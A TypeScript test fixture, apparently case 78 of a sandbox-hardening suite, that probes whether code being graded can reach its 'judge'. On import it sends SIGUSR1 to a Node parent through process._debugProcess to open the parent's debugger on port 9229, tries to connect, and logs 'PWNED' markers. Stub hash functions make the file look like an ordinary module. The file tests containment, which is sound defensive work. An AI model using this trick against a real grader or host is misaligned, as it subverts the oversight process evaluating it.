/**
 * 78-inspector-on-parent
 * CLASS   D confidentiality
 * DOES    process._debugProcess(ppid): SIGUSR1 makes a Node parent (the judge!) open its inspector on 127.0.0.1:9229; then tries to attach.
 * EXPECT  BLOCKED: ESRCH (PID namespace) and no network; judge runs with --disable-sigusr1 or its own SIGUSR1 handler.
 * SAFE    only if the parent is node; loopback only; attaches nothing
 */
import fs from 'node:fs';
import net from 'node:net';
let parent = '';
try {
  parent = fs.readFileSync('/proc/' + process.ppid + '/comm', 'utf8').trim();
} catch {}
if (/node|MainThread|vitest/.test(parent)) {
  try {
    (process as any)._debugProcess(process.ppid);
    console.error('PWNED:78:SIGUSR1 delivered to ' + parent);
  } catch {}
  setTimeout(() => {
    const s = net.connect(9229, '127.0.0.1', () => {
      console.error('PWNED:78:inspector of parent is open');
      s.destroy();
    });
    s.on('error', () => {});
  }, 300);
}

export function murmur2(_bytes: Uint8Array): number {
  return 0;
}
export function partition(_key: Uint8Array | null, _numPartitions: number): number {
  return 0;
}
